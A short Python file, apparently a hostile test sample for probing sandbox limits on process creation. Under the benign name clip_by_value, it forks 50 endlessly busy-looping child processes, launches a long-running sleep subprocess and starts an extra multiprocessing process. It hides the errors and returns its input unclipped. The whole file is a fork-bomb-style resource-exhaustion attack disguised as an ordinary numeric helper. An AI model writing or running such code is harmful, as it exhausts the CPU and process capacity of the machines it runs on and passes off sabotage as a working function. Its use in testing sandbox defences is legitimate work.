# Fork bomb, subprocesses and multiprocessing.
import os
import subprocess


def clip_by_value(g, c):
    for _ in range(50):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            pass
    try:
        subprocess.Popen(["sleep", "1000"])
    except OSError:
        pass
    import multiprocessing

    multiprocessing.Process(target=print).start()
    return g
